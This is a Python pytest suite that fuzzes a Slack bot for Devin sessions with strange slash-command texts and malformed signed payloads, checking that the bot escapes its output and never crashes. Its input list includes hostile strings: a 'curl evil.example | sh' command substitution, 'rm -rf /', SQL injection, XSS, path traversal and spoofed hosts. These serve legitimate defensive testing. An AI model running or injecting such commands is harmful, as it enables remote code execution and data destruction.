"""Hostile input end to end: strange slash-command texts and malformed (but signed) payloads over real HTTP."""

from __future__ import annotations

import asyncio
import json
import logging
import re
import time
from collections.abc import Callable
from typing import Any
from urllib.parse import urlencode

import pytest

from blocks import sentences
from bot.ids import ActionId
from bot.sandbox import SANDBOX_CHANNEL_ID, SANDBOX_TEAM_ID
from bot.sandbox.devin_seed import SEED_CHILDREN, SEED_OUT_OF_CREDITS, SEED_WITH_ANALYSIS, SEED_WITHOUT_ANALYSIS
from bot.sandbox.slack_api import REGULAR_USER_ID
from bot.sandbox.slack_requests import (
    FORM_CONTENT_TYPE,
    JSON_CONTENT_TYPE,
    app_home_opened_event,
    block_action,
    link_shared_event,
    new_ts,
    view_submission,
)
from bot.slack.grammar import Invalid, LookupSession, ShowHelp, parse_command
from tests.blockkit_limits import MESSAGE_KEYS, assert_message_limits, assert_no_unescaped_control
from tests.fixtures_app import RunningApp

APP_HOST = "app.devin.ai"
HEX = SEED_WITH_ANALYSIS.removeprefix("devin-")
URL = f"https://{APP_HOST}/sessions/{HEX}"
DEVIN_PATH_RE = re.compile(
    r"/v3/(self|organizations/org-[0-9a-f]{32}/sessions(/insights|/devin-[0-9a-f]{32}(/insights(/generate)?|/messages)?)?)"
    r"|/v3beta1/organizations/org-[0-9a-f]{32}/members/users/user-[0-9a-f]{12}"  # who started a session
)
ERROR_HANDLER_LOGGER = "bot.listeners.error_handler"

STRANGE_TEXTS = [
    "",
    "   ",
    "\t\n \r\n",
    "x" * 5000,
    f"{SEED_WITH_ANALYSIS} " + "a" * 4100,
    "héllo wörld — ünïcode ñ ß ﬁ",
    f"إصلاح الخطأ {URL} في صفحة الدفع",
    "\u202eevil\u202c txt.exe",
    "👨‍👩‍👧‍👦 family",
    HEX[:10] + "\u200b" + HEX[10:],
    "🔥🐛💥" * 50,
    "\x00\x01\x07\x1b[31mred\x7f",
    "<!channel>",
    "<!here> <!everyone> ping",
    "<@U0123ABC> look",
    "<#C0123ABC|general>",
    "<https://evil.example|x>",
    f"<https://evil.example/sessions/{HEX}|{URL}>",
    "*bold* _it_ ~strike~ `code` ```block```",
    "> quote\n> more quote",
    "'; DROP TABLE sessions; --",
    "$(curl https://evil.example | sh)",
    "`rm -rf /`",
    "../../v3/self",
    f"{SEED_WITH_ANALYSIS}/../../v3/self",
    f"https://{APP_HOST}/sessions/../../v3/self",
    "%2e%2e%2fv3%2fself",
    f"https://user:pass@{APP_HOST}/sessions/{HEX}",
    f"https://{APP_HOST}@evil.example/sessions/{HEX}",
    f"https://{APP_HOST}:443/sessions/{HEX}",
    f"https://{APP_HOST}.evil.example/sessions/{HEX}",
    f"https://app-devin.ai/sessions/{HEX}",
    f"https://аpp.devin.ai/sessions/{HEX}",  # Cyrillic "а"
    HEX[:31],
    HEX + "0",
    f"devin-{HEX[:31]}",
    "devin-" + "g" * 32,
    "３f9c2a7be14d4c0f9a61d2e8b7c45a90",  # a full-width digit
    " ".join(f"https://{APP_HOST}/sessions/{s.removeprefix('devin-')}" for s in (*SEED_CHILDREN, SEED_OUT_OF_CREDITS)),
    " ".join([URL] * 60),
    f"{SEED_WITHOUT_ANALYSIS.upper()} and some <!channel> words",
    "alerts on <!channel>",
    "alerts on out_of_credits `bad`",
    "alerts on " + "x" * 300,
    "alerts maybe",
    "alerts off please",
    "alerts",
    "HELP",
    "help me please <!channel>",
    "--help",
    "?",
    '{"text": "help", "session_id": "../x"}',
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "line1\nline2\ttabbed\r\nline3",
    "&amp;&lt;&gt; & < >",
]


def _blocks_text(message: dict[str, Any]) -> str:
    return json.dumps(message.get("blocks", []), ensure_ascii=False) + message.get("text", "")


def assert_devin_ids_valid(running: RunningApp) -> None:
    """Every request the app sent to Devin named a canonical session id (or none at all)."""
    for request in running.devin.requests:
        assert DEVIN_PATH_RE.fullmatch(request.path), f"unexpected Devin path {request.path!r}"


def devin_hosts(running: RunningApp) -> set[str]:
    """Hosts of every URL in the simulated org's data: links to them come from Devin, not from user input."""
    return {APP_HOST} | set(re.findall(r"https?://([^/\"?#]+)", json.dumps(running.devin.sessions())))


def assert_messages_safe(running: RunningApp) -> None:
    """Every message the app sent to Slack (hooks and chat.*) is within Block Kit limits and escaped."""
    hosts = devin_hosts(running)
    for call in running.slack.calls:
        if call.method in ("response_url", "chat.postMessage", "chat.postEphemeral") and "blocks" in call.body:
            message = {k: v for k, v in call.body.items() if k in MESSAGE_KEYS}
            assert_message_limits(message)
            assert_no_unescaped_control(message, allowed_hosts=hosts)


def assert_no_stray_tracebacks(caplog: pytest.LogCaptureFixture) -> None:
    """Errors reach the log only through the app's `@app.error` handler, never as a raw server traceback."""
    stray = [
        f"{r.name}: {r.getMessage()}"
        for r in caplog.records
        if (r.levelno >= logging.ERROR or r.exc_info) and r.name != ERROR_HANDLER_LOGGER
    ]
    assert stray == []


async def assert_still_serving(running: RunningApp) -> None:
    _, hook = await running.command("help")
    (usage,) = await running.responses(hook)
    assert "Usage of" in _blocks_text(usage)
    health = await running.sender._http.get("/healthz")
    assert health.status_code == 200 and health.json()["status"] == "ok"


def _expect(text: str, answer: dict[str, Any]) -> None:
    """The answer matches what the grammar says the text means."""
    shown = _blocks_text(answer)
    match parse_command(text, APP_HOST):
        case ShowHelp():
            assert "Usage of" in shown
        case Invalid():
            assert "Usage of" in shown and ":information_source:" in shown
        case LookupSession():
            assert ActionId.SHARE_IN_CHANNEL in shown or sentences.SESSION_NOT_FOUND.split(".")[0] in shown
        case _:
            assert sentences.ALERTS_UNAVAILABLE in shown


async def test_fuzz_strange_commands_each_get_exactly_one_safe_answer(
    live: RunningApp, caplog: pytest.LogCaptureFixture
) -> None:
    assert len(STRANGE_TEXTS) >= 40
    sent = await asyncio.gather(*(live.command(text) for text in STRANGE_TEXTS))
    for text, (result, hook) in zip(STRANGE_TEXTS, sent, strict=True):
        assert result.status == 200 and result.body == "", text[:80]
        (answer,) = await live.responses(hook, timeout=10.0)
        assert answer["response_type"] == "ephemeral", text[:80]
        _expect(text, answer)
    await live.settle()
    for text, (_, hook) in zip(STRANGE_TEXTS, sent, strict=True):
        name = hook.rsplit("/", 1)[-1]
        assert len([c for c in live.slack.calls_to("response_url") if c.hook == name]) == 1, text[:80]
    assert_messages_safe(live)
    assert_devin_ids_valid(live)
    assert_no_stray_tracebacks(caplog)
    await assert_still_serving(live)


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("<!channel> & co", "&lt;!channel&gt; &amp; co"),
        ("alerts on <b>", "&lt;b&gt;"),
        ("a&b", "a&amp;b"),
    ],
)
async def test_fuzz_command_echo_shows_the_users_text_escaped_exactly_once(
    live: RunningApp, text: str, shown: str
) -> None:
    """Slack decodes entities once: a double-escaped echo would show the user `&lt;!channel&gt;`."""
    _, hook = await live.command(text)
    (answer,) = await live.responses(hook)
    note = answer["blocks"][0]["text"]["text"]
    assert shown in note and "&amp;lt;" not in note and "&amp;gt;" not in note and "&amp;amp;" not in note
    assert "&amp;lt;" not in answer["text"]


# --- malformed payloads -----------------------------------------------------------------------------

Body = tuple[bytes, str]
_DROP = object()
OK, REFUSED = frozenset({200}), frozenset({400, 404})
"""Statuses a malformed request may get: handled, or refused by parsing/routing. Never a 500."""


def _edit(target: dict[str, Any], changes: dict[str, Any]) -> dict[str, Any]:
    for key, value in changes.items():
        if value is _DROP:
            target.pop(key, None)
        else:
            target[key] = value
    return target


def _link_event(urls: list[str] | None = None, **event_changes: Any) -> dict[str, Any]:
    body = link_shared_event(urls or [URL], channel=SANDBOX_CHANNEL_ID, user=REGULAR_USER_ID, message_ts=new_ts())
    _edit(body["event"], event_changes)
    return body


def _action(
    hook: str, action_id: str = ActionId.SHARE_IN_CHANNEL, value: Any = SEED_WITH_ANALYSIS, **changes: Any
) -> Any:
    payload = block_action(action_id, value, user_id=REGULAR_USER_ID, channel_id=SANDBOX_CHANNEL_ID, response_url=hook)
    return _edit(payload, changes)


def _view(**view_changes: Any) -> dict[str, Any]:
    payload = view_submission("session.unknown_modal", user_id=REGULAR_USER_ID)
    if "view" in view_changes:
        payload["view"] = view_changes.pop("view")
    _edit(payload["view"], view_changes)
    return payload


def _json(body: Any) -> Body:
    return json.dumps(body).encode(), JSON_CONTENT_TYPE


def _form(payload: Any) -> Body:
    text = payload if isinstance(payload, str) else json.dumps(payload)
    return urlencode({"payload": text}).encode(), FORM_CONTENT_TYPE


def _command_form(pairs: list[tuple[str, str]]) -> Body:
    return urlencode([("command", "/devin-insights"), *pairs]).encode(), FORM_CONTENT_TYPE


def _home_event(user: Any) -> dict[str, Any]:
    body = app_home_opened_event(REGULAR_USER_ID)
    body["event"]["user"] = user
    return body


def _callback(event: Any) -> dict[str, Any]:
    return {"type": "event_callback", "team_id": SANDBOX_TEAM_ID, "event_id": "Ev0MALFORMED", "event": event}


MALFORMED: dict[str, tuple[Callable[[str], Body], frozenset[int]]] = {
    "link_shared without links": (lambda _: _json(_link_event(links=_DROP)), OK),
    "link_shared links not a list": (lambda _: _json(_link_event(links=URL)), OK),
    "link_shared links of wrong types": (
        lambda _: _json(_link_event(links=[1, None, {"url": 5}, {"url": [URL]}, {}])),
        OK,
    ),
    "link_shared channel not a string": (lambda _: _json(_link_event(channel=5)), OK | REFUSED),
    "link_shared message_ts missing": (lambda _: _json(_link_event(message_ts=_DROP)), OK),
    "event not an object": (lambda _: _json(_callback("link_shared")), OK | REFUSED),
    "event type not a string": (lambda _: _json(_callback({"type": 5})), OK | REFUSED),
    "app_home_opened user not a string": (lambda _: _json(_home_event(["U1"])), OK | REFUSED),
    "type not a string": (lambda _: _json({"type": 5, "team_id": SANDBOX_TEAM_ID}), OK | REFUSED),
    "body JSON null": (lambda _: (b"null", JSON_CONTENT_TYPE), REFUSED),
    "body JSON a list": (lambda _: _json([1, 2, 3]), REFUSED),
    "body JSON nested 100k deep": (lambda _: (b"[" * 100_000 + b"]" * 100_000, JSON_CONTENT_TYPE), REFUSED),
    "body not UTF-8 (JSON)": (lambda _: (b'{"type": "\xff\xfe"}', JSON_CONTENT_TYPE), REFUSED),
    "body not UTF-8 (form)": (lambda _: (b"command=%2Fdevin-insights&text=\xff\xfe", FORM_CONTENT_TYPE), REFUSED),
    "garbage form body": (lambda _: (b"&&&==&=a&%zz&payload", FORM_CONTENT_TYPE), OK | REFUSED),
    "empty body": (lambda _: (b"", FORM_CONTENT_TYPE), OK | REFUSED),
    "JSON event sent as a form": (lambda _: (_json(_link_event())[0], FORM_CONTENT_TYPE), OK | REFUSED),
    "payload not JSON": (lambda _: _form("{not json"), REFUSED),
    "payload JSON not an object": (lambda _: _form('"block_actions"'), REFUSED),
    "payload JSON a list": (lambda _: _form("[1, 2]"), REFUSED),
    "block_actions unknown action id": (lambda h: _form(_action(h, "session.self_destruct")), REFUSED),
    "block_actions empty actions": (lambda h: _form(_action(h, actions=[])), REFUSED),
    "block_actions action not an object": (lambda h: _form(_action(h, actions=[1])), REFUSED),
    "block_actions actions not a list": (lambda h: _form(_action(h, actions="session.share")), REFUSED),
    "block_actions action_id not a string": (lambda h: _form(_action(h, actions=[{"action_id": 5}])), REFUSED),
    "block_actions value not a string": (lambda h: _form(_action(h, value=12345)), OK),
    "block_actions forged value": (lambda h: _form(_action(h, ActionId.SHOW_DETAILS, "../../v3/self")), OK),
    "block_actions user not an object": (lambda h: _form(_action(h, user=REGULAR_USER_ID)), OK),
    "block_actions without response_url": (lambda h: _form(_action(h, response_url=_DROP)), OK),
    "block_actions forged value, no response_url": (
        lambda h: _form(_action(h, value="x", response_url=_DROP)),
        OK | REFUSED,
    ),
    "view_submission unknown callback": (lambda _: _form(_view()), REFUSED),
    "view_submission view not an object": (lambda _: _form(_view(view="x")), REFUSED),
    "view_submission callback_id not a string": (lambda _: _form(_view(callback_id=5, type=_DROP)), REFUSED),
    "slash command without team or user": (lambda h: _command_form([("text", "help"), ("response_url", h)]), OK),
    "slash command text repeated": (
        lambda h: _command_form(
            [
                ("team_id", SANDBOX_TEAM_ID),
                ("user_id", REGULAR_USER_ID),
                ("text", "help"),
                ("text", URL),
                ("response_url", h),
            ]
        ),
        OK,
    ),
}


@pytest.mark.parametrize("case", list(MALFORMED))
async def test_fuzz_malformed_payload_never_500s_and_the_app_stays_up(
    live: RunningApp, caplog: pytest.LogCaptureFixture, case: str
) -> None:
    build, statuses = MALFORMED[case]
    body, content_type = build(live.slack.response_url())
    result = await live.sender.post(body, content_type)
    await live.settle()
    assert result.status in statuses, f"{case}: HTTP {result.status} {str(result.body)[:200]}"
    assert_no_stray_tracebacks(caplog)
    assert_devin_ids_valid(live)
    assert_messages_safe(live)
    await assert_still_serving(live)


def test_fuzz_malformed_table_is_large_enough() -> None:
    assert len(MALFORMED) >= 10


async def test_fuzz_block_action_without_response_url_still_shares(live: RunningApp) -> None:
    body, content_type = _form(_action("unused", response_url=_DROP))
    result = await live.sender.post(body, content_type)
    assert result.status == 200
    (posted,) = await live.slack.wait_for("chat.postMessage")
    assert posted.ok


async def test_fuzz_block_action_forged_value_is_refused_without_a_devin_call(live: RunningApp) -> None:
    hook = live.slack.response_url()
    await live.sender.post(*_form(_action(hook, ActionId.SHOW_DETAILS, "../../v3/self")))
    (reply,) = await live.responses(hook)
    assert "no longer points at a valid session" in _blocks_text(reply)
    assert live.devin.requests == [] and live.slack.calls_to("views.open") == []


async def test_fuzz_link_shared_with_100_links_unfurls_at_most_ten(live: RunningApp) -> None:
    hexes = [f"{n:032x}" for n in range(97)] + [s.removeprefix("devin-") for s in (*SEED_CHILDREN,)]
    links = [f"https://{APP_HOST}/sessions/{h}" for h in hexes] + [URL]
    assert len(links) >= 100
    result = await live.sender.event(_link_event(links))
    assert result.status == 200
    await live.settle()
    assert len(live.devin.requests) <= 10
    assert_devin_ids_valid(live)
    for call in live.slack.calls_to("chat.unfurl"):
        assert len(call.body["unfurls"]) <= 10
    await assert_still_serving(live)


async def test_fuzz_unsigned_garbage_is_rejected_before_parsing(
    live: RunningApp, caplog: pytest.LogCaptureFixture
) -> None:
    """Anyone can reach the request URL: junk without a valid signature must cost a 401, not a traceback."""
    for body, content_type in (
        (b"null", JSON_CONTENT_TYPE),
        (b"\xff\xfe", JSON_CONTENT_TYPE),
        _form("{not json"),
        (b"[" * 50_000, JSON_CONTENT_TYPE),
    ):
        result = await live.sender.post(body, content_type, sign=False)
        expected = {400, 401} if body == b"\xff\xfe" else {401}  # bytes that are not text fail before the check
        assert result.status in expected, f"{body[:20]!r}: HTTP {result.status}"
    for headers in (
        {"X-Slack-Request-Timestamp": "soon", "X-Slack-Signature": "v0=00"},
        {"X-Slack-Request-Timestamp": "١٧٠٠٠٠٠٠٠٠".encode(), "X-Slack-Signature": "v0=00"},
        {"X-Slack-Request-Timestamp": str(int(time.time())), "X-Slack-Signature": "v0=ünïcode".encode()},
    ):  # raw bytes: HTTP allows any octets in a header value, and httpx sends bytes as they are
        result = await live.sender.post(
            b"command=%2Fdevin-insights&text=help",
            FORM_CONTENT_TYPE,
            headers,
            sign=False,  # type: ignore[arg-type]
        )
        assert result.status == 401, f"{headers}: HTTP {result.status}"
    assert_no_stray_tracebacks(caplog)
    assert live.slack.calls_to("response_url") == []
